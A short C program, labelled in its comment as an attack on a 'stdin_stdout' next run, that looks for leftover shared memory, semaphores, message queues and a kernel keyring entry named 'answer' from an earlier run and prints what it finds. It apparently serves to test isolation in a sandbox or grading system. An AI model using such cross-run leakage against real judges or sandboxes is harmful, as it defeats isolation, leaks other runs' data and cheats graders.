// Attack on stdin_stdout (next run): looks for shared memory, semaphores, queues and keys of an earlier run.
#define _GNU_SOURCE
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <string.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
  char text[64] = "";
  int id = shmget(0x5ec2e7, 4096, 0);
  if (id >= 0) return puts(shmat(id, 0, SHM_RDONLY)) < 0;
  id = semget(0x5ec2e7, 2, 0);
  if (id >= 0) return printf("%d%03d\n", semctl(id, 0, GETVAL), semctl(id, 1, GETVAL)) < 0;
  id = msgget(0x5ec2e7, 0);
  if (id >= 0 && msgrcv(id, text, 32, 0, IPC_NOWAIT) > 0) return puts(text + sizeof(long)) < 0;
  long key = syscall(SYS_request_key, "user", "answer", 0, -4);
  if (key > 0 && syscall(SYS_keyctl, 11, key, text, 32) > 0) puts(text);
  return 0;
}
